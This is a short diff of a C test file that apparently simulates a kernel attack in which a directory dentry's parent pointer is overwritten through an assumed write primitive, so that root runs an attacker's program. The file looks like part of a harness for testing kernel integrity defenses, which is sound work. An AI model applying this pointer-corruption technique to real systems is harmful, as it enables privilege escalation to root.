@@ -7,21 +7,11 @@ ATTACK("cred_integrity", "name_other_parent", "LOST",
        "The parent of a directory is read from its sealed record.",
        "Root runs the attacker's program.");
 
-static bool control(void)
-{
-	return is_ordinary();
-}
-
 static bool fire(void)
 {
-	long place, below;
+	const long below = call3(__NR_open, (long)"/jobs/below", O_RDONLY | O_DIRECTORY, 0);
 
-	make_own_program();
-	call2(__NR_mkdir, (long)"/tmp/place", 0755);
-	call2(__NR_rename, (long)MINE, (long)"/tmp/place/helper");
-	place = call3(__NR_open, (long)"/tmp/place", O_RDONLY | O_DIRECTORY, 0);
-	below = call3(__NR_open, (long)"/jobs/below", O_RDONLY | O_DIRECTORY, 0);
-	poke(dentry_of(below) + member("dentry.parent"), dentry_of(place));
+	poke(dentry_of(below) + member("dentry.parent"), make_own_place());
 	wait_for_root();
 	return false;
 }
